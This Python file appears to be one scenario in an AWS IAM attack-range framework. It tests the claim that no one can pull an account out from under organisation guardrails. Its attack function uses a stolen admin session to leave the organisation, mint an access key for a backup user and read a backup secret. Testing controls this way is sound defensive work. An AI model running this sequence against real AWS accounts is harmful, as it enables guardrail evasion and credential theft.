"""The account is taken out of the organisation, and with it from under the guardrails."""

from __future__ import annotations

from iamrange.core import aws_controls
from iamrange.core import frameworks as fw
from iamrange.core.scenario import (
    Asset,
    AssetKind,
    AwsSession,
    Foothold,
    Loot,
    Material,
    Part,
    Scenario,
    Taken,
)
from scenarios import workloads


def attack(foothold: Taken) -> Loot:
    """Leave the organisation, then mint the key that the organisation forbade."""
    session = workloads.aws_session(foothold.aws_session)
    session.client("organizations").leave_organization()
    answer = session.client("iam").create_access_key(UserName=foothold.knows["aws.backup_user"])
    key = answer["AccessKey"]
    minted = workloads.aws_session(AwsSession(key["AccessKeyId"], key["SecretAccessKey"]))
    return Loot((workloads.read_aws_secret(minted, foothold.knows["aws.backup_secret_arn"]),))


SCENARIO = Scenario(
    claim="nobody can take an account out from under the organisation's guardrails",
    blocked_by=(aws_controls.ORG_STAY_IN_ORGANISATION,),
    foothold=Foothold(Part.PLATFORM_ADMIN, Material.AWS_SESSION, taken_from="process memory"),
    asset=Asset(AssetKind.AWS_BACKUP_SECRET),
    knows=("aws.backup_user", "aws.backup_secret_arn"),
    legitimate=workloads.LOOKS_AFTER_THE_ACCOUNT,
    attack=attack,
    maps_to=(fw.NHI6, fw.ASI03, fw.T1078_004),
    lesson="A guardrail binds who stays inside; the first one to write is the one at the door.",
)
